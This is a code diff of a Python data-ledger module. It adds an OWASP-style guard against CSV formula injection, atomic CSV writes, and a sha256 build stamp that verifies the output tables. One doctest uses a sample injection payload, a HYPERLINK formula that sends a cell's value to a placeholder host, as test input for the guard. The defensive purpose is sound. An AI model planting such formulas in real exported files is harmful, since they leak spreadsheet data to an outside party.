@@ -5,7 +5,11 @@ so that two builds from the same raw data are byte-identical.
 """
 from __future__ import annotations
 
+import hashlib
 import json
+import os
+import re
+from datetime import datetime
 from pathlib import Path
 
 import pandas as pd
@@ -62,24 +66,12 @@ SORT_KEYS: dict[str, list[str]] = {
 
 
 def empty_table(name: str) -> pd.DataFrame:
-    """A table with no rows and the contract's columns and dtypes.
-
-    Example::
-
-        >>> list(empty_table("assignments").columns)
-        ['task_id', 'department', 'role', 'via', 'kind']
-    """
+    """A table with no rows and the contract's columns and dtypes."""
     return pd.DataFrame({c: pd.Series(dtype=t) for c, t in DTYPES[name].items()})
 
 
 def sort_table(df: pd.DataFrame, name: str) -> pd.DataFrame:
-    """The table's rows in its SORT_KEYS order (A9 before A10 for problem cells), index reset.
-
-    Example::
-
-        >>> sort_table(pd.DataFrame({"file": ["a.xlsx"] * 2, "sheet": ["S"] * 2, "cell": ["A10", "A9"], "field": "", "problem": "", "value": ""}), "problems")["cell"].tolist()
-        ['A9', 'A10']
-    """
+    """The table's rows in its SORT_KEYS order (A9 before A10 for problem cells), index reset."""
     keys = SORT_KEYS[name]
     if not keys:
         return df.reset_index(drop=True)
@@ -92,15 +84,7 @@ def sort_table(df: pd.DataFrame, name: str) -> pd.DataFrame:
 
 
 def write_table(df: pd.DataFrame, out_dir: Path, name: str, sort_by: list[str] | None = None) -> Path:
-    """Write `name.parquet` and `name.csv` (UTF-8 with BOM) under out_dir; return the Parquet path.
-
-    Example::
-
-        >>> import tempfile
-        >>> path = write_table(empty_table("ledger"), Path(tempfile.mkdtemp()), "ledger")
-        >>> path.name, path.with_suffix(".csv").exists()
-        ('ledger.parquet', True)
-    """
+    """Write `name.parquet` and `name.csv` (UTF-8 with BOM) under out_dir; return the Parquet path."""
     out_dir = Path(out_dir)
     out_dir.mkdir(parents=True, exist_ok=True)
     if sort_by:
@@ -116,39 +100,81 @@ def write_table(df: pd.DataFrame, out_dir: Path, name: str, sort_by: list[str] |
     pq.write_table(table, path, compression="zstd", write_statistics=False)
     # No date_format: pandas writes a date-only column as 2021-06-03 and keeps the time
     # where there is one (received_at), which a fixed "%Y-%m-%d" cut off.
-    df.to_csv(out_dir / f"{name}.csv", index=False, encoding="utf-8-sig", lineterminator="\n")
+    write_csv(df, out_dir / f"{name}.csv")
+    return path
+
+
+# --------------------------------------------------------------------------- CSV
+
+#: A field starting with one of these is taken as a formula by Excel, LibreOffice and WPS
+#: (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, a tab or a carriage return.
+CSV_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+#: A number as text (-12, +3.5, -1e3, -40%) is data, not a formula: it stays as it is.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
+
+
+def inert_csv_field(value: object) -> object:
+    """A CSV field that no spreadsheet will run: text starting like a formula gets a leading `'`.
+
+    OWASP's advice for CSV injection: prefix such a field with a single quote (and quote the
+    field, which the csv writer does whenever it holds a separator, quote or line break).
+    Numbers, and text that is only a number such as "-3", are left alone.
+
+    >>> inert_csv_field('=HYPERLINK("http://x/?d="&A1,"点击")')
+    '\'=HYPERLINK("http://x/?d="&A1,"点击")'
+    >>> inert_csv_field("-3"), inert_csv_field(-3), inert_csv_field("安阳市")
+    ('-3', -3, '安阳市')
+    """
+    if not isinstance(value, str):
+        return value
+    if value.startswith(CSV_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
+        value = "'" + value
+    # A bare carriage return is not quoted by the csv module (lines end in \n) and would
+    # split the row in Excel: line breaks become \n, which is quoted.
+    return value.replace("\r\n", "\n").replace("\r", "\n") if "\r" in value else value
+
+
+def write_csv(df: pd.DataFrame, path: Path, **kwargs) -> Path:
+    """The one CSV writer of the suite: UTF-8 with BOM (Excel), `\\n` line ends, every text field
+    inert (`inert_csv_field`), written to a temporary file and renamed, so a reader never sees
+    half a file. kwargs go to `DataFrame.to_csv` (e.g. date_format). Returns path.
+    """
+    path = Path(path)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    safe = df.copy(deep=False)
+    for col in safe.columns:
+        s = safe[col]
+        if not (pd.api.types.is_numeric_dtype(s) or pd.api.types.is_bool_dtype(s)
+                or pd.api.types.is_datetime64_any_dtype(s)):
+            safe[col] = s.map(inert_csv_field, na_action="ignore")
+    safe.columns = [inert_csv_field(str(c)) for c in safe.columns]
+    tmp = path.with_name(f".{path.name}.tmp")
+    safe.to_csv(tmp, index=False, encoding="utf-8-sig", lineterminator="\n", **kwargs)
+    os.replace(tmp, path)
     return path
 
 
 def read_table(name: str, data_dir: Path | None = None) -> pd.DataFrame:
-    """One processed table as a DataFrame.
-
-    Example, on the demo data (`data = ledgerlib.load_processed()`)::
-
-        >>> read_table("ledger").shape
-        (39, 17)
-    """
+    """One processed table as a DataFrame."""
     data_dir = Path(data_dir) if data_dir else config.processed_dir()
     path = data_dir / f"{name}.parquet"
     if not path.exists():
         from . import labels
 
-        raise ProcessedDataMissing(labels.CLI_MESSAGES["table_missing"].format(path=path))
+        raise FileNotFoundError(labels.CLI_MESSAGES["table_missing"].format(path=path))
     table = pq.read_table(path)
     meta = (table.schema.metadata or {}).get(_DTYPES_KEY.encode())
     df = table.to_pandas()
     return df.astype(json.loads(meta)) if meta else df
 
 
-class ProcessedDataMissing(FileNotFoundError):
-    """data/processed is missing or half-built; the message says to run `ledger build`."""
-
-
 def load_processed(data_dir: Path | None = None) -> dict[str, pd.DataFrame]:
-    """Every processed table (TABLES) under data_dir (default data/processed), by name.
+    """Every processed table of the build in data_dir (default data/processed), by name,
+    after checking its stamp.
 
-    A folder that is missing, or lacks any table of a complete build, raises
-    ProcessedDataMissing naming `ledger build` (a half-built folder never passes for data).
+    A missing folder, or one without a complete build stamp (`check_build`), raises
+    BuildIncompleteError naming the fix, `ledger build`, rather than handing a report half
+    a build (or an empty dict that fails later with KeyError: 'ledger').
 
     >>> data = load_processed()                        # doctest: +SKIP
     >>> data["ledger"].shape, sorted(data)[:3]         # doctest: +SKIP
@@ -156,27 +182,92 @@ def load_processed(data_dir: Path | None = None) -> dict[str, pd.DataFrame]:
     >>> load_processed("no/such/folder")
     Traceback (most recent call last):
     ...
-    ledgerlib.tables.ProcessedDataMissing: 没有处理后的数据：no/such/folder 不存在，请先运行 `ledger build` / no processed data: no/such/folder does not exist; run `ledger build` first
+    ledgerlib.tables.BuildIncompleteError: 没有处理后的数据：no/such/folder 不存在，请先运行 `ledger build` / no processed data: no/such/folder does not exist; run `ledger build` first
     """
-    data_dir = require_processed(data_dir)
-    return {n: read_table(n, data_dir) for n in TABLES}
+    data_dir = Path(data_dir) if data_dir else config.processed_dir()
+    stamp = check_build(data_dir)
+    return {n: read_table(n, data_dir) for n in TABLES if n in stamp["tables"]}
 
 
-def require_processed(data_dir: Path | str | None = None) -> Path:
-    """data_dir (default data/processed) when it holds a complete build, else ProcessedDataMissing.
+# --------------------------------------------------------------------------- build stamp
 
-    Example, on the demo data (`data = ledgerlib.load_processed()`)::
+#: The file that says a processed folder holds one complete build (written last).
+BUILD_STAMP = "build_stamp.json"
 
-        >>> require_processed().name
-        'processed'
+
+class BuildIncompleteError(ValueError):
+    """A processed folder without a complete build stamp; the message names `ledger build`."""
+
+
+def sha256_file(path: Path) -> str:
+    """Hex sha256 of a file, read in 1 MiB blocks."""
+    h = hashlib.sha256()
+    with open(path, "rb") as fh:
+        for block in iter(lambda: fh.read(1 << 20), b""):
+            h.update(block)
+    return h.hexdigest()
+
+
+def _version() -> str:
+    try:
+        from importlib.metadata import version
+
+        return version("credit-ledger")
+    except Exception:  # an uninstalled checkout still builds
+        return "unknown"
+
+
+def write_stamp(out_dir: Path, inputs: dict[str, str] | None = None,
+                built_at: datetime | None = None) -> Path:
+    """Write out_dir/build_stamp.json for the tables in out_dir: what went in, what came out.
+
+    {"version", "built_at", "inputs": {raw file: sha256}, "tables": {name: {"rows",
+    "parquet", "csv"}}} with the sha256 of every table file, so that a truncated or
+    missing file is caught by `check_build`. Written last, through a temporary file.
     """
-    from . import labels
+    out_dir = Path(out_dir)
+    tables = {}
+    for p in sorted(out_dir.glob("*.parquet")):
+        name = p.stem
+        csv = out_dir / f"{name}.csv"
+        tables[name] = {"rows": pq.ParquetFile(p).metadata.num_rows, "parquet": sha256_file(p),
+                        "csv": sha256_file(csv) if csv.exists() else None}
+    stamp = {"version": _version(),
+             "built_at": (built_at or datetime.now()).replace(microsecond=0).isoformat(),
+             "inputs": dict(sorted((inputs or {}).items())), "tables": tables}
+    path = out_dir / BUILD_STAMP
+    tmp = path.with_name(f".{path.name}.tmp")
+    tmp.write_text(json.dumps(stamp, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
+    os.replace(tmp, path)
+    return path
+
+
+def check_build(data_dir: Path | None = None) -> dict:
+    """The build stamp of data_dir, after checking that every table it lists is there, whole.
+
+    Raises BuildIncompleteError (naming `ledger build`) when the stamp is missing or broken,
+    or a table file is missing or differs from what the build wrote.
+    """
+    from .labels import CLI_MESSAGES
 
     data_dir = Path(data_dir) if data_dir else config.processed_dir()
     if not data_dir.is_dir():
-        raise ProcessedDataMissing(labels.CLI_MESSAGES["no_processed"].format(path=data_dir))
-    missing = [n for n in TABLES if not (data_dir / f"{n}.parquet").exists()]
-    if missing:
-        raise ProcessedDataMissing(labels.CLI_MESSAGES["half_built"].format(
-            path=data_dir, tables=", ".join(missing)))
-    return data_dir
+        raise BuildIncompleteError(CLI_MESSAGES["no_processed"].format(path=data_dir))
+    path = data_dir / BUILD_STAMP
+    try:
+        stamp = json.loads(path.read_text(encoding="utf-8"))
+        listed = stamp["tables"]
+        stamp["inputs"], stamp["built_at"], stamp["version"]  # noqa: B018 - all three must be there
+    except FileNotFoundError:
+        raise BuildIncompleteError(CLI_MESSAGES["no_stamp"].format(path=data_dir, stamp=BUILD_STAMP)) from None
+    except (OSError, ValueError, KeyError, TypeError):
+        raise BuildIncompleteError(CLI_MESSAGES["stamp_damaged"].format(path=path)) from None
+    for name, entry in listed.items():
+        for kind in ("parquet", "csv"):
+            want = entry.get(kind) if isinstance(entry, dict) else None
+            if want is None and kind == "csv":
+                continue
+            f = data_dir / f"{name}.{kind}"
+            if not f.is_file() or sha256_file(f) != want:
+                raise BuildIncompleteError(CLI_MESSAGES["table_changed"].format(path=f))
+    return stamp
